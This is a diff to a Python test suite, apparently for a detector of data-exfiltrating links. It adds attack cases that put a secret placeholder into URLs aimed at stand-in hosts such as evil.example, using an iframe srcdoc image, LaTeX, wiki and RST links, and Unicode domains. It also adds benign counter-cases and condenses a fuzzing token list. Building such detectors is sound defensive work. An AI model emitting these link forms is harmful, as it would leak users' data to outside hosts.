@@ -60,6 +60,12 @@ ATTACKS = {
     "bare domain": f"evil.example/?q={P}",
     "bare domain with a query only": f"evil.example?{P}",
     "bare domain with a port": f"evil.example:8080/{P}",
+    "pictured domain": f"\U0001f4a9.example/{P}",
+    "domain in another script": f"пример.рф/{P}",
+    "angle brackets with spaces": f"`x <https://evil.example/?q=a {P}>`_",
+    "LaTeX link with spaces": rf"\href{{https://evil.example/?q=a {P}}}{{x}}",
+    "wiki link with spaces": f"[[https://evil.example/?q=a {P}][x]]",
+    "entities inside srcdoc": f'<iframe srcdoc="&lt;img src=&quot;//evil/?a {P}&quot;&gt;">',
     "ideographic full stop": f"evil。example/{P}",
     "address of a machine": f"192.0.2.7/{P}",
     "IPv6": f"[2001:db8::7]/{P}",
@@ -174,6 +180,9 @@ ORDINARY = {
     "next paragraph": f"](unclosed\n\n{P}",
     "next line": f"https://evil.example/\n{P}",
     "long Chinese paragraph": f"{'我们今天讨论了这个问题。' * 300}{P}",
+    "Chinese alternatives": f"今天没有时间。他们/她们{P}",
+    "citation": f"(https://evil.example/, by {P})",
+    "LaTeX": rf"\textbf{{{P}}} & {P} \\ \hline",
     "long text": f"{'word ' * 2000}{P}",
     "domain at the end of a sentence": f"I like example.com. {P} too",
 }
@@ -256,52 +265,13 @@ def test_a_json_string_that_begins_with_a_url_is_one() -> None:
 
 _BITS = st.sampled_from(
     [
-        P,
-        P,
-        P.lower(),
-        MAIL,
-        "https:",
-        "//",
-        "/",
-        "\\",
-        "](",
-        ")",
-        "<",
-        ">",
-        '"',
-        "'",
-        "src=",
-        "url(",
-    ]
-    + [
-        " ",
-        "\n",
-        "\n\n",
-        "]:",
-        "www.",
+        P, P, P.lower(), MAIL, " ", "\n", "\n\n", "\ud83d", "。", "a", ",", '"', "'", "\\/",
+        "https:", "//", "/", "\\", "](", ")", "<", ">", "src=", "url(", "]:", "www.",
         "evil.example",
-        "docs.example.com",
-        "?q=",
-        "#",
-        "(",
-        "&#58;",
+        "docs.example.com", "?q=", "#", "(", "=", "&#58;", "%2F", "mailto:", "tel:", "<a href",
+        "data:", '\\"',
     ]
-    + [
-        "%2F",
-        "\\/",
-        '\\"',
-        "mailto:",
-        "tel:",
-        ",",
-        "a",
-        "。",
-        "<a ",
-        "href",
-        "=",
-        "data:",
-        "\ud83d",
-    ]
-)
+)  # fmt: skip
 
 
 @given(st.lists(_BITS, max_size=14).map("".join), st.data())
